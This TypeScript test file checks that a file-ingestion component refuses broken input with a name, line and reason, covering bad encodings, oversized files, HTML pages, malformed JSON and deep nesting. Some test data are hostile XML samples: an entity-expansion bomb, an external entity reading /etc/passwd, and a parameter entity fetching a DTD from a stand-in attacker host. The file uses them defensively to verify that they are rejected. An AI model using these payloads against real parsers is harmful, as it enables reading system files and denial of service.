import { describe, expect, it } from 'vitest';
import { processorTime } from '#tests/support/processor-time.ts';
import { changed, fixture, lineWith, refusalsOf } from './reading.ts';

const xml = fixture('article.xml');

function refusal(name: string, content: Uint8Array | string) {
  const refusals = refusalsOf(name, content);
  expect(refusals).toHaveLength(1);
  return refusals[0];
}

describe('broken files are refused with name, line and reason', () => {
  it('an empty file', () => {
    expect(refusal('empty.xml', ' \n\n')).toEqual({
      file: 'empty.xml',
      line: 1,
      reason: 'The file is empty.',
    });
  });

  it('a file of another type', () => {
    expect(refusal('paper.pdf', '%PDF-1.7')?.reason).toMatch(/not read; content comes as .xml/);
  });

  it('a file that is not UTF-8, at its first bad line', () => {
    const bytes = Buffer.concat([
      Buffer.from('<article>\n<p>na\u00efve \uFFFD</p>\n<p>'),
      Buffer.from([0xe9, 0x20]),
      Buffer.from('</p></article>'),
    ]);
    expect(refusal('latin.xml', bytes)).toMatchObject({ line: 3, reason: /not valid UTF-8/ });
  });

  it('JSON in UTF-16', () => {
    expect(refusal('wide.json', Buffer.from('\uFEFF{}', 'utf16le'))?.reason).toMatch(/not valid UTF-8/);
    expect(refusal('wide.json', Buffer.from('{}', 'utf16le'))?.reason).toMatch(/NUL byte/);
  });

  it.each(['EBCDIC-US', 'UTF-16'])('XML that declares to be in %s, and is read in another', (encoding) => {
    const bytes = Buffer.from(changed(xml, 'encoding="UTF-8"', `encoding="${encoding}"`));
    expect(refusal('a.xml', bytes)).toMatchObject({
      line: 1,
      reason: expect.stringContaining(`encoded in ${encoding}`),
    });
  });

  it('a file of 40 MB, without reading it', () => {
    const spent = processorTime();
    expect(refusal('large.xml', new Uint8Array(40 * 1024 * 1024))?.reason).toBe(
      'The file has 40.0 MB; the limit is 20 MB.',
    );
    expect(spent()).toBeLessThan(500);
  });

  it.each(['<!DOCTYPE html>\n<html><body>Sign in</body></html>', '\n<html lang="en"></html>'])(
    'an HTML page in place of XML: %j',
    (page) => {
      expect(refusal('a.xml', page)?.reason).toMatch(/HTML page/);
    },
  );

  it('an HTML page instead of JSON', () => {
    expect(refusal('a.json', '<!doctype html><title>404</title>')?.reason).toMatch(/HTML page/);
  });

  it('entities that expand exponentially', () => {
    const bomb =
      '<?xml version="1.0"?>\n<!DOCTYPE article [\n<!ENTITY a "aaaaaaaaaa">\n<!ENTITY b "&a;&a;&a;">\n]>\n<article>&b;</article>';
    expect(refusal('bomb.xml', bomb)?.reason).toMatch(/declares entities/);
  });

  it('an external entity', () => {
    const fetching = '<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<article>&x;</article>';
    expect(refusal('xxe.xml', fetching)?.reason).toMatch(/declares entities/);
  });

  it.each([
    ['a parameter entity that is used', '<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;', '&b;'],
    ['a long one', `<!ENTITY a "${'a'.repeat(65)}">`, '&a;'],
    ['one with elements', '<!ENTITY a "<b/>">', '&a;'],
    ['more than any file has', '<!ENTITY a "b">'.repeat(1001), '&a;'],
    ['in a long DOCTYPE', `<!ENTITY a "b">${' '.repeat(100_000)}`, '&a;'],
    ['one that is cut off', '<!ENTITY a "', '&a;'],
    ['one that names another by its number', '<!ENTITY a "&#38;b;"> <!ENTITY b "bb">', '<b>&a;</b>&c;'],
  ])('entities: %s', (_, declared, used) => {
    const text = `<!DOCTYPE article [${declared}]>\n<article>${used}</article>`;
    expect(refusal('a.xml', text)).toBeDefined();
  });

  it('an undeclared entity, at its line', () => {
    const text = changed(xml, 'We thank the sea.', 'We thank&nosuch;the sea.');
    expect(refusal('a.xml', text)).toMatchObject({
      line: lineWith(text, 'We thank'),
      reason: /undefined entity/,
    });
  });

  it('XML that is not closed, naming what is open', () => {
    const text = changed(xml, '<p>We thank the sea.</p>', '<p>We thank the sea.');
    expect(refusal('a.xml', text)).toMatchObject({
      line: lineWith(text, 'We thank the sea.'),
      reason: expect.stringContaining(`inside <p> of line ${lineWith(text, 'We thank the sea.')}`),
    });
  });

  it('XML that is cut off, at its end', () => {
    const text = xml.slice(0, xml.indexOf('<back>'));
    expect(refusal('a.xml', text)).toMatchObject({
      line: text.trimEnd().split('\n').length + 1,
      reason: /unclosed tag/,
    });
  });

  it('a start tag broken over lines, at its first error', () => {
    expect(refusal('a.xml', '<article\n  a="1"\n  a="2">\n</article>')).toMatchObject({ line: 3 });
  });

  it('XML and JSON nested a hundred thousand deep', () => {
    expect(refusal('deep.xml', `<article>${'<p>'.repeat(100_000)}`)?.reason).toMatch(/nest more than 256/);
    expect(refusal('deep.json', '['.repeat(100_000))?.reason).toMatch(/nest more than 64/);
    expect(refusal('deep.json', '{"a":'.repeat(100_000))?.reason).toMatch(/nest more than 64/);
  });

  it('YAML nested a hundred thousand deep', () => {
    expect(refusal('deep.md', `---\na: ${'['.repeat(100_000)}\n---\n`)?.reason).toBeTruthy();
    expect(refusal('deep.md', `---\n${'- '.repeat(100_000)}\n---\n`)?.reason).toBeTruthy();
  });

  it.each([
    ['{\n  "1": tru\n}', 2],
    ['{\n  "1": {},\n}', 3],
    ['{\n"1": "a\nb"}', 2],
    ['{"1": "\\x"}', 1],
    ['{"1": 01}', 1],
    ['{}\n{}', 2],
    ['{"1": {}', 1],
  ])('JSON that is not well-formed: %j', (text, line) => {
    expect(refusal('a.json', text)).toMatchObject({ line, reason: /JSON/ });
  });
});
